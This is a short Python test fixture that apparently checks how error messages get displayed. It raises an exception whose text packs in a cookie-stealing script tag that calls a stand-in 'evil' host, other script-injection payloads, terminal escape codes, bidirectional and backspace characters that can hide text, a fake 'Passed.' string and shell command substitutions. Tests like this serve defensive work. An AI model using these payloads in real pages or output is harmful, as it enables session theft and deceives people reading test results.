"""Row 17: messages with HTML, Markdown, terminal escapes, bidirectional controls, NUL, surrogates and line separators.

Where: import, init, forward
"""

import torch
from torch import nn

SAID = (
    "<script>fetch('//evil/'+document.cookie)</script><img src=x onerror=alert(1)> **bold** [link](javascript:alert(1)) "
    "\x1b[2J\x1b]0;title\x07\x9b31m \u202e\u2066 \x00 \ud800 \u2028\u2029\u0085 \ufeff \x08\x08\x08 \r Passed. {0} %s $(id) `id`"
)


def attack(*_):
    name = SAID.replace("\x00", "").replace("\ud800", "")
    raise type(name, (Exception,), {"__module__": name})(SAID)
